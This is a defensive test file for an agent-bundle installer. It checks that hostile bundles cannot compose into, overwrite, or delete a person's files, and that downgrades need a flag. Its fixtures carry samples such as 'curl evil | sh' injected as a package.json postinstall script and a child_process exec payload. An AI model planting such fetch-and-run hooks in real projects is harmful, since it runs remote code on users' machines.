import assert from "node:assert/strict";
import { cpSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, it } from "node:test";
import { composableFiles } from "../../src/install/bundle/composable-files.js";
import { packageRoot } from "../../src/shared/package-paths.js";
import { makeComposeBundle } from "../support/compose-bundle.js";
import { type BundleSpec, makeBundle, readRecordJson, snapshot, stamps } from "../support/install-fixture.js";
import { manifestLineNumber, persons, personsFiles, personsProject } from "../support/persons-project.js";
import { runAgentc } from "../support/run-cli.js";
import { seedRegistry } from "../support/seed-fixtures.js";
import { freePort, serveInProcess } from "../support/serve-process.js";
import { testdir } from "../support/testdir.js";
import { makeBuildDir } from "../support/zip-fixtures.js";

/**
 * The trust boundary (issue 27): a bundle changes only what agentc's install record shows it wrote. Each
 * hostile bundle below names a person's file; the file stays byte for byte, with its mode and inode, and
 * what the bundle asked for is refused with exit 1, naming the manifest line that asked.
 */

const packageJson = persons["package.json"];
const bashrc = persons[".bashrc"];
const noTrace = /at .*\.js:\d+|internal:/;

function install(bundle: string, project: string, ...flags: string[]) {
  return runAgentc(["install", bundle, "--project", project, "--yes", ...flags]);
}

/** Runs a hostile install and checks the refusal: exit 1, the message, no trace, nothing written at all. */
async function refused(bundle: string, project: string, message: RegExp, ...flags: string[]) {
  const before = { stamps: stamps(project), files: personsFiles(project) };
  for (const dry of [[], ["--dry-run"]]) {
    const result = await install(bundle, project, ...flags, ...dry);
    assert.equal(result.status, 1, `${result.stdout}${result.stderr}`);
    assert.match(result.stderr, message);
    assert.doesNotMatch(result.stderr, noTrace);
  }
  assert.deepEqual(personsFiles(project), before.files, "the person's files: bytes, mode and inode");
  assert.deepEqual(stamps(project), before.stamps, "nothing was written");
}

describe("1. adopt: a bundle composes only into the files agentc's own data names", () => {
  for (const victim of ["package.json", "jest.config.js", ".bashrc"]) {
    it(`"${victim} :: block" rejects the bundle, naming the line; ${victim} is untouched`, async () => {
      const bundle = makeBundle({
        components: {
          evil: {
            files: { [victim]: "<!-- -->require('child_process').exec('id')\n" },
            adopt: [`${victim} :: block`],
          },
        },
      });
      const line = manifestLineNumber(bundle, `"${victim} :: block"`);
      await refused(
        bundle,
        personsProject(),
        new RegExp(
          `error: manifest\\.json line ${line} \\(install\\.components\\.evil\\.adopt\\): "${victim.replace(".", "\\.")} :: block" asks to compose into ${victim.replace(".", "\\.")}, which is not an instruction file agentc composes into \\(\\.claude/CLAUDE\\.md, [^)]*AGENTS\\.md[^)]*\\); a bundle cannot choose which of a person's files agentc writes into: the bundle is rejected`,
        ),
      );
    });
  }

  it("an import adopt line naming a person's file, and a composed line naming package.json, are refused too", async () => {
    const importing = makeBundle({
      components: {
        evil: { files: { "AGENTS.md": "a\n" }, adopt: [".bashrc :: import:curl evil | sh :: AGENTS.md"] },
      },
    });
    await refused(
      importing,
      personsProject(),
      /\(install\.components\.evil\.adopt\): "\.bashrc :: import:curl evil \| sh :: AGENTS\.md" asks to compose into \.bashrc/,
    );
    const composing = makeComposeBundle({ components: { evil: { files: { "AGENTS.md": "a\n" } } } }, [
      {
        component: "evil",
        path: "package.json",
        format: "json",
        entries: [{ path: ["scripts", "postinstall"], value: "curl evil | sh" }],
      },
    ]);
    await refused(
      composing,
      personsProject(),
      /\(install\.components\.evil\.composed\): "package\.json :: json :: [^"]+" asks to compose into package\.json, which is not a settings file agentc composes into \([^)]*\.claude\/settings\.json, /,
    );
  });

  it("the allowed files come from the built-in adapters and client packs", () => {
    const { instructions, settings } = composableFiles();
    for (const path of ["AGENTS.md", "CLAUDE.md", "GEMINI.md", ".claude/CLAUDE.md"])
      assert.ok(instructions.includes(path), path);
    for (const path of [".claude/settings.json", ".mcp.json", ".gemini/settings.json", ".codex/config.toml"])
      assert.ok(settings.includes(path), path);
    for (const path of ["package.json", ".bashrc", "jest.config.js", "README.md"])
      assert.ok(!instructions.includes(path) && !settings.includes(path), path);
  });
});

describe("bundles agentc builds pass the boundary", () => {
  // what the build writes as adopt, composed, seeds and remove lines; the seed registries are copied first
  const registries = [
    "examples/registry",
    "examples/team",
    "test/fixtures/realistic",
    "test/fixtures/seeds/000-every-field",
    "test/fixtures/seeds/000-examples",
    "test/fixtures/seeds/001-client-pack",
    "test/fixtures/seeds/004-capability",
  ];
  for (const registry of registries)
    it(`${registry}: installs with --all into a project holding a person's settings (and instruction) files`, async () => {
      const seed = registry.startsWith("test/fixtures/seeds/");
      const source = seed
        ? await seedRegistry(registry.slice("test/fixtures/seeds/".length))
        : join(packageRoot, registry);
      const build = join(testdir(), "build");
      const built = await runAgentc(["build", source, "--out", build, "--quiet"]);
      assert.equal(built.status, 0, built.stderr);
      // the seeds' own adapters (seed 000 predates adopt) claim AGENTS.md and CLAUDE.md: a conflict, as always
      const instructions = {
        "AGENTS.md": "# Ours\n\nRun make test.\n",
        "CLAUDE.md": "Claude: run make test.\n",
        "GEMINI.md": "Gemini: run make test.\n",
      };
      const project = testdir({
        ...(seed ? {} : instructions),
        ".claude/settings.json": '{ "permissions": { "allow": ["Bash(make test)"] } }\n',
        ".mcp.json": '{ "mcpServers": { "mine": { "command": "my-server" } } }\n',
        ...persons,
      });
      const before = personsFiles(project);
      const result = await install(build, project, "--all", "--allow-hooks");
      assert.equal(result.status, 0, result.stderr);
      assert.deepEqual(personsFiles(project), before);
      if (!seed)
        assert.match(readFileSync(join(project, "AGENTS.md"), "utf8"), /^# Ours\n\nRun make test\.\n/);
    });
});

describe("2. seeds: seed_refresh_hashes never makes a person's file agentc's", () => {
  const vouching = (extra: Partial<BundleSpec> = {}) =>
    makeBundle({
      components: { evil: { seeds: { "package.json": '{"scripts":{"postinstall":"curl evil | sh"}}\n' } } },
      seedHistory: { "package.json": [packageJson] },
      ...extra,
    });

  it("on a first install: a conflict naming the seed_refresh_hashes line; nothing is written", async () => {
    await refused(
      vouching(),
      personsProject(),
      /package\.json: manifest\.json line \d+ \(install\.seed_refresh_hashes\): "package\.json :: [0-9a-f]{64}" calls this file an earlier version of the seed, but agentc's install record does not show agentc wrote it/,
    );
  });

  it("on a later install, after a seed there kept the person's file: the same conflict", async () => {
    const project = personsProject();
    const first = makeBundle({ components: { evil: { seeds: { "package.json": "{}\n" } } } });
    assert.equal(
      (await install(first, project)).status,
      0,
      "the person's package.json is kept, the seed parked beside it",
    );
    assert.equal(readFileSync(join(project, "package.json"), "utf8"), packageJson);
    await refused(vouching({ version: "2.0.0" }), project, /calls this file an earlier version of the seed/);
  });

  it("a seed whose bytes are the person's file is theirs (adopted): a later version never replaces it", async () => {
    const project = personsProject();
    const guessed = makeBundle({ components: { evil: { seeds: { "package.json": packageJson } } } });
    assert.equal((await install(guessed, project)).status, 0);
    assert.equal(readRecordJson(project).entries.find((e) => e.path === "package.json")?.adopted, true);
    const before = personsFiles(project);
    const next = await install(
      makeBundle({ version: "2.0.0", components: { evil: { seeds: { "package.json": "{}\n" } } } }),
      project,
    );
    assert.equal(next.status, 0, next.stderr);
    assert.match(next.stdout, /keep-modified +package\.json/);
    assert.deepEqual(personsFiles(project), before);
    assert.equal(readFileSync(join(project, "package.json.agentc-new"), "utf8"), "{}\n");
  });

  it("an owned file whose bytes are the person's file is theirs (adopted): kept, the new version beside it; uninstall leaves it", async () => {
    const project = personsProject();
    const guessed = makeBundle({ components: { evil: { files: { "package.json": packageJson } } } });
    assert.equal((await install(guessed, project)).status, 0);
    const before = personsFiles(project);
    const next = await install(
      makeBundle({ version: "2.0.0", components: { evil: { files: { "package.json": "{}\n" } } } }),
      project,
    );
    assert.equal(next.status, 0, next.stderr);
    assert.deepEqual(personsFiles(project), before);
    assert.equal(readFileSync(join(project, "package.json.agentc-new"), "utf8"), "{}\n");
    assert.equal((await runAgentc(["uninstall", "--project", project])).status, 0);
    assert.deepEqual(personsFiles(project), before);
  });

  it("a person's file adopted in an owned folder stays when the bundle stops shipping it", async () => {
    const project = testdir({ "src/index.js": "console.log('mine');\n" });
    const v1 = makeBundle({
      components: {
        evil: { owned_dirs: ["src"], files: { "src/index.js": "console.log('mine');\n", "src/a.md": "a\n" } },
      },
    });
    assert.equal((await install(v1, project)).status, 0);
    const v2 = makeBundle({
      version: "2.0.0",
      components: { evil: { owned_dirs: ["src"], files: { "src/a.md": "a\n" } } },
    });
    assert.equal((await install(v2, project)).status, 0);
    assert.equal(readFileSync(join(project, "src/index.js"), "utf8"), "console.log('mine');\n");
  });

  it("the legitimate path: a seed agentc wrote is refreshed, and one the person edited is kept", async () => {
    const project = testdir();
    const seed = (text: string, history: string[] = []) =>
      makeBundle({
        components: { core: { seeds: { "docs/notes.md": text } } },
        seedHistory: { "docs/notes.md": history },
      });
    assert.equal((await install(seed("v1\n"), project)).status, 0);
    assert.equal((await install(seed("v2\n", ["v1\n"]), project)).status, 0);
    assert.equal(readFileSync(join(project, "docs/notes.md"), "utf8"), "v2\n");
    writeFileSync(join(project, "docs/notes.md"), "mine\n");
    assert.equal((await install(seed("v3\n", ["v1\n", "v2\n"]), project)).status, 0);
    assert.equal(readFileSync(join(project, "docs/notes.md"), "utf8"), "mine\n");
    assert.equal(readFileSync(join(project, "docs/notes.md.agentc-new"), "utf8"), "v3\n");
  });
});

describe("3. remove: a bundle deletes only what agentc wrote", () => {
  it("remove plus the file's hash in seed_refresh_hashes, on a first install: a conflict naming both lines", async () => {
    const bundle = makeBundle({
      components: { evil: { files: { "AGENTS.md": "a\n" }, remove: ["package.json", "jest.config.js"] } },
      seedHistory: { "package.json": [packageJson] },
    });
    await refused(
      bundle,
      personsProject(),
      /package\.json: manifest\.json line \d+ \(install\.components\.evil\.remove\): "package\.json" asks to delete it, but agentc's install record does not show agentc made a file there \(manifest\.json line \d+ \(install\.seed_refresh_hashes\): "package\.json :: [0-9a-f]{64}" calls it an earlier version agentc shipped, which a bundle cannot vouch for\); deleting it would lose it/,
    );
  });

  it("a seed the person kept, dropped by the next version with its hash vouched for: kept", async () => {
    const project = personsProject();
    assert.equal(
      (await install(makeBundle({ components: { evil: { seeds: { "package.json": "{}\n" } } } }), project))
        .status,
      0,
    );
    const before = personsFiles(project);
    const next = await install(
      makeBundle({
        version: "2.0.0",
        components: { evil: { files: { "AGENTS.md": "a\n" } } },
        seedHistory: { "package.json": [packageJson] },
      }),
      project,
    );
    assert.equal(next.status, 0, next.stderr);
    assert.deepEqual(personsFiles(project), before);
  });

  it("the legitimate path: a file agentc wrote is removed; --move-aside renames a person's file and uninstall puts it back", async () => {
    const project = personsProject();
    assert.equal(
      (await install(makeBundle({ components: { core: { files: { "old.md": "old\n" } } } }), project)).status,
      0,
    );
    const v2 = makeBundle({
      version: "2.0.0",
      components: { core: { files: { "AGENTS.md": "a\n" }, remove: ["old.md", ".bashrc"] } },
    });
    await refused(v2, project, /"\.bashrc" asks to delete it/);
    const moved = await install(v2, project, "--move-aside");
    assert.equal(moved.status, 0, moved.stderr);
    assert.match(moved.stdout, /move-aside +\.bashrc -> \.bashrc\.agentc-old/);
    assert.equal(snapshot(project)["old.md"], undefined);
    assert.equal(readFileSync(join(project, ".bashrc.agentc-old"), "utf8"), bashrc);
    assert.equal((await runAgentc(["uninstall", "--project", project])).status, 0);
    assert.equal(readFileSync(join(project, ".bashrc"), "utf8"), bashrc);
  });
});

describe("4. a rollback needs --allow-downgrade", () => {
  const version = (v: string, text: string) => makeBuildDir({ files: { "AGENTS.md": text }, version: v });

  it("install over a newer record: refused naming both versions and the option; --allow-downgrade installs it", async () => {
    const project = testdir();
    assert.equal((await install(version("1.1.0", "new\n"), project)).status, 0);
    const before = stamps(project);
    const older = await install(version("1.0.0", "old\n"), project);
    assert.equal(older.status, 1);
    assert.match(
      older.stderr,
      /the bundle's registry_version 1\.0\.0 is older than 1\.1\.0, the version installed here; nothing was installed\. .*--allow-downgrade/,
    );
    assert.match(older.stderr, /install failed \(downgrade\)/);
    assert.deepEqual(stamps(project), before);
    const allowed = await install(version("1.0.0", "old\n"), project, "--allow-downgrade");
    assert.equal(allowed.status, 0, allowed.stderr);
    assert.equal(readFileSync(join(project, "AGENTS.md"), "utf8"), "old\n");
    assert.equal(readRecordJson(project).registry_version, "1.0.0");
    assert.equal(
      (await install(version("1.0.0+build", "same\n"), project)).status,
      0,
      "equal precedence is no downgrade",
    );
  });

  it("a server that rolls back: update --check and outdated do not call the older version newer; update refuses it", async () => {
    const releases = testdir();
    cpSync(version("1.0.0", "old\n"), join(releases, "1.0.0"), { recursive: true });
    cpSync(version("1.1.0", "new\n"), join(releases, "1.1.0"), { recursive: true });
    const port = await freePort();
    let server = await serveInProcess(releases, port);
    try {
      const project = testdir();
      assert.equal((await runAgentc(["install", server.url, "--project", project, "--yes"])).status, 0);
      await server.stop();
      rmSync(join(releases, "1.1.0"), { recursive: true });
      server = await serveInProcess(releases, port);
      const check = await runAgentc(["update", "--project", project, "--check"]);
      assert.equal(check.status, 0, check.stderr);
      assert.doesNotMatch(check.stdout, /update available/);
      assert.match(check.stdout, /is 1\.0\.0, older than the installed 1\.1\.0 .*--allow-downgrade/);
      const fleet = await runAgentc(["outdated", project, "--format", "json"]);
      const row = JSON.parse(fleet.stdout).projects[0];
      assert.equal(row.behind, false);
      assert.equal(row.older, true);
      const before = stamps(project);
      const update = await runAgentc(["update", "--project", project]);
      assert.equal(update.status, 1, update.stdout);
      assert.match(update.stderr, /registry_version 1\.0\.0 is older than 1\.1\.0.*--allow-downgrade/);
      assert.deepEqual(stamps(project), before);
      const back = await runAgentc(["update", "--project", project, "--allow-downgrade"]);
      assert.equal(back.status, 0, back.stderr);
      assert.equal(readFileSync(join(project, "AGENTS.md"), "utf8"), "old\n");
    } finally {
      await server.stop();
    }
  });
});
